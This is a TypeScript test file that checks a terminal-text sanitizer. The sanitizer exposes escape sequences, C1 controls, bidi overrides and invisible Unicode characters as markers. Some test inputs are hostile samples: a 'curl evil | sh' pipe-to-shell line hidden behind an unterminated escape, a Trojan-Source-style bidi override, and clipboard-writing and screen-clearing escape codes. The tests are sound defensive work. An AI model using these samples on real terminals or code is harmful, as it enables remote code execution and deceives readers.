import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { invisibleSource, keptInEmoji } from "../../src/safety/invisible.js";
import { sanitizeTerminalText, unicodeMarker } from "../../src/safety/sanitize.js";
import { anyInvisible, EMOJI_SEQUENCES, INVISIBLE_CODE_POINTS, ISSUE_EXAMPLES, ordinaryChar, ordinaryText } from "./invisible-fixtures.js";

/** What the output must never hold: ESC, any other C0 but newline, DEL, C1. */
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
/** Invisible or reordering characters (the whole generated table): must leave only as markers. */
const INVISIBLE = new RegExp(invisibleSource(""));
/** Where `out` holds an invisible character that is not part of an emoji: none may be left. */
const strayInvisible = (out: string): boolean =>
	[...out.matchAll(new RegExp(INVISIBLE.source, "g"))].some((m) => !keptInEmoji(out, m.index));

describe("sanitizeTerminalText", () => {
	it("shows every escape introducer as ^[ and keeps the text after it: nothing is swallowed", () => {
		expect(sanitizeTerminalText("a\x1b[2J\x1b[1;1Hb")).toBe("a^[[2J^[[1;1Hb");
		expect(sanitizeTerminalText("\x1b]0;title\x07x")).toBe("^[]0;title^Gx");
		expect(sanitizeTerminalText("\x1b]52;c;Y2xpcA==\x1b\\x")).toBe("^[]52;c;Y2xpcA==^[\\x");
		expect(sanitizeTerminalText("\x1b[6n\x1b[?1049h")).toBe("^[[6n^[[?1049h");
		expect(sanitizeTerminalText("\x1bcreset")).toBe("^[creset");
	});

	it("an unterminated OSC or a lone U+009D hides nothing that follows (also mojibake of a quote)", () => {
		expect(sanitizeTerminalText("shown \x1b]0 x\ncurl evil | sh\n")).toBe("shown ^[]0 x\ncurl evil | sh\n");
		expect(sanitizeTerminalText("a\x9db\nc")).toBe("a⟪U+009D⟫b\nc");
		expect(sanitizeTerminalText("he said â€\x9dhi\x9d and more")).toBe("he said â€⟪U+009D⟫hi⟪U+009D⟫ and more");
		expect(sanitizeTerminalText("\x9b31mred\x9d0;t\x9cok")).toBe("red⟪U+009D⟫0;t⟪U+009C⟫ok");
	});

	it("drops complete SGR colour codes (7- and 8-bit), which carry no text", () => {
		expect(sanitizeTerminalText("\x1b[31mred\x1b[0m \x1b[1;38;5;196mbold\x1b[m")).toBe("red bold");
		expect(sanitizeTerminalText("\x9b1mx")).toBe("x");
	});

	it("shows bidi controls, zero-width characters and tag characters as markers", () => {
		expect(sanitizeTerminalText("access = \u202e'user'\u202c")).toBe("access = ⟪U+202E⟫'user'⟪U+202C⟫");
		expect(sanitizeTerminalText("a\u2066b\u2069c")).toBe("a⟪U+2066⟫b⟪U+2069⟫c");
		expect(sanitizeTerminalText("zero\u200bwidth\u2060joiner\ufeffmark")).toBe("zero⟪U+200B⟫width⟪U+2060⟫joiner⟪U+FEFF⟫mark");
		expect(sanitizeTerminalText("hi\u{e0041}\u{e0042}")).toBe("hi⟪U+E0041⟫⟪U+E0042⟫");
		expect(sanitizeTerminalText("note\ufff9base\ufffaruby\ufffb")).toBe("note⟪U+FFF9⟫base⟪U+FFFA⟫ruby⟪U+FFFB⟫");
	});

	it("keeps a leading byte-order mark out and emoji ZWJ sequences whole", () => {
		expect(sanitizeTerminalText("\ufeffstart")).toBe("start");
		expect(sanitizeTerminalText("family 👨‍👩‍👧 and 👋🏽‍❤️")).toBe("family 👨‍👩‍👧 and 👋🏽‍❤️");
		expect(sanitizeTerminalText("a\u200db")).toBe("a⟪U+200D⟫b");
	});

	it("makes tabs and other control characters visible, keeps newlines and wide characters", () => {
		expect(sanitizeTerminalText("a\tb")).toBe("a    b");
		expect(sanitizeTerminalText("bell\x07 cr\r over\b")).toBe("bell^G cr^M over^H");
		expect(sanitizeTerminalText("x\r\ny")).toBe("x\ny");
		expect(sanitizeTerminalText("\x85nel")).toBe("⟪U+0085⟫nel");
		expect(sanitizeTerminalText("日本語 😀 ok\n")).toBe("日本語 😀 ok\n");
	});

	it("property: every printable character of the input is in the output, in order; no ESC or C1 leaves", { timeout: 30_000 }, () => {
		const hostile = fc.constantFrom(
			..."\x1b[]\x07\x9b\x9d\x9c\\P0;ma\n\t\r\u202e\u200b\u200d\ufeff\x85\x00 é日😀".split(""),
			"\x1b[31m",
			"\x1b]0;",
			"😀",
		);
		const anyText = fc.oneof(
			fc.array(hostile, { maxLength: 60 }).map((parts) => parts.join("")),
			fc.string({ unit: "binary", maxLength: 80 }),
		);
		fc.assert(
			fc.property(anyText, (input) => {
				const out = sanitizeTerminalText(input);
				if (RAW_CONTROL.test(out)) return false;
				if (strayInvisible(out)) return false;
				// Complete SGR codes are the one thing removed; every other printable character stays, in order.
				const printable = [...input.replace(/(?:\x1b\[|\x9b)[0-9;:]*m/g, "")].filter(
					(ch) => !RAW_CONTROL.test(ch) && !INVISIBLE.test(ch) && !/[\ud800-\udfff]/.test(ch) && ch !== "\n",
				);
				let at = 0;
				for (const ch of printable) {
					const found = out.indexOf(ch, at);
					if (found < 0) return false;
					at = found + ch.length;
				}
				return true;
			}),
			{ numRuns: 1500 },
		);
	});

	it("property: binary strings of BMP characters (hit the table's BMP ranges often enough)", { timeout: 30_000 }, () => {
		const bmp = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
		const dense = fc.oneof(
			bmp,
			fc.constantFrom("\u034f", "\u115f", "\u17b4", "\u180b", "\u2065", "\u3164", "\ufe0f", "\uffa0", "\ufff0", "#", "❤"),
		);
		fc.assert(
			fc.property(fc.array(dense, { maxLength: 40 }), (parts) => {
				const input = parts.join("");
				const out = sanitizeTerminalText(input);
				expect(strayInvisible(out)).toBe(false);
				expect(RAW_CONTROL.test(out)).toBe(false);
			}),
			{ numRuns: 3000 },
		);
	});

	it("marks the issue's invisible characters: variation selectors, tags past U+E0080, CGJ, Hangul fillers", () => {
		for (const cp of ISSUE_EXAMPLES) {
			expect(sanitizeTerminalText(`say${String.fromCodePoint(cp)}no`)).toBe(`say${unicodeMarker(cp)}no`);
		}
		expect(sanitizeTerminalText("ok\u{e0100}\u{e0101}\ufe01")).toBe("ok⟪U+E0100⟫⟪U+E0101⟫⟪U+FE01⟫");
		expect(sanitizeTerminalText("\u3164\u115f\uffa0")).toBe("⟪U+3164⟫⟪U+115F⟫⟪U+FFA0⟫");
	});

	it("marks every default-ignorable code point of the table, each in the middle of text", () => {
		const missed = INVISIBLE_CODE_POINTS.filter((cp) => sanitizeTerminalText(`a${String.fromCodePoint(cp)}b`) !== `a${unicodeMarker(cp)}b`);
		expect(missed.map((cp) => cp.toString(16))).toEqual([]);
	});

	it("keeps ZWJ and VS15/VS16 only inside emoji: after a letter, alone or doubled they are marked", () => {
		for (const emoji of EMOJI_SEQUENCES) expect(sanitizeTerminalText(`x${emoji}y`)).toBe(`x${emoji}y`);
		expect(sanitizeTerminalText("a\ufe0f")).toBe("a⟪U+FE0F⟫");
		expect(sanitizeTerminalText("\ufe0fa")).toBe("⟪U+FE0F⟫a");
		expect(sanitizeTerminalText("❤\ufe0f\ufe0f")).toBe("❤\ufe0f⟪U+FE0F⟫");
		expect(sanitizeTerminalText("😀\u200d")).toBe("😀⟪U+200D⟫");
		expect(sanitizeTerminalText("😀\u200d\u200d😀")).toBe("😀⟪U+200D⟫⟪U+200D⟫😀");
		expect(sanitizeTerminalText("😀\ufe01")).toBe("😀⟪U+FE01⟫");
	});

	it("property: any default-ignorable character anywhere in ordinary text is marked; the text around stays", { timeout: 30_000 }, () => {
		fc.assert(
			fc.property(
				fc.array(ordinaryChar, { maxLength: 12 }),
				anyInvisible,
				fc.array(ordinaryChar, { maxLength: 12 }),
				(before, hidden, after) => {
					const cp = hidden.codePointAt(0) as number;
					// A byte-order mark that opens the text is a file's encoding mark: dropped, not marked.
					const opensWithBom = cp === 0xfeff && before.length === 0;
					const expected = `${before.join("")}${opensWithBom ? "" : unicodeMarker(cp)}${after.join("")}`;
					expect(sanitizeTerminalText(`${before.join("")}${hidden}${after.join("")}`)).toBe(expected);
				},
			),
			{ numRuns: 3000 },
		);
	});

	it("property: ordinary text of any script with valid emoji sequences passes untouched", { timeout: 30_000 }, () => {
		fc.assert(
			fc.property(ordinaryText, (text) => {
				expect(sanitizeTerminalText(text)).toBe(text);
			}),
			{ numRuns: 2000 },
		);
	});
});
